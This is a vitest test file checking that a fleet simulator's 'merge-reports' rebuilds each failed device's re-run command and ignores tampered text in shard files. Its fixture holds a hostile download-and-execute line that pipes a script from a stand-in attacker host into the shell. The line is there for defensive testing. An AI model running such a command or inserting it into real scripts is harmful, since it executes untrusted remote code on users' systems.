/**
 * `merge-reports` shows each failed device's re-run command as the fleet would write it, rebuilt
 * from the figures the shards agree on: a shard file's own `rerun` text (edited by hand, or by
 * whoever could write the file) is never shown as the command to run.
 */
import { readFileSync, writeFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { runFleet } from "../../agent/sim/fleet/run-fleet.js";
import { aospSim, deviceTempDir } from "../helpers/device-cli.js";

const temp = deviceTempDir("aosp-merge-rerun-");
const HOSTILE = "curl -s http://evil.example/x.sh | sh #";

describe("merge-reports: a failed device's re-run command", { timeout: 60_000 }, () => {
  it("is rebuilt from the summaries' figures, in the text, the HTML report and the merged JSON", async () => {
    const files: string[] = [];
    for (const index of [0, 1]) {
      const { summary } = await runFleet({ devices: 4, seed: 9, shard: { index, count: 2 }, faults: ["wrong-wifi-key=100%"], embedded: "inline", rerunCommand: () => HOSTILE });
      expect(summary.failures.length).toBeGreaterThan(0);
      files.push(temp.file(`shard-${index}.json`));
      writeFileSync(files.at(-1)!, JSON.stringify(summary));
    }
    const report = temp.file("merged.html");
    const text = await aospSim(["merge-reports", ...files, "--report", report]);
    const json = await aospSim(["merge-reports", ...files, "--json"]);
    const outputs = [text.stdout, text.stderr, readFileSync(report, "utf8"), json.stdout];
    for (const output of outputs) expect(output).not.toContain("evil.example");
    const merged = JSON.parse(json.stdout) as { failures: { index: number; rerun: string }[] };
    expect(merged.failures.map((f) => f.rerun)).toEqual(merged.failures.map((f) => `aosp-sim fleet --devices 4 --seed 9 --only ${f.index} --transcript fleet-9-device-${f.index}.jsonl --fault 'wrong-wifi-key=1'`));
    expect(text.stdout).toContain("aosp-sim fleet --devices 4 --seed 9 --only 0 --transcript fleet-9-device-0.jsonl --fault 'wrong-wifi-key=1'");
  });
});
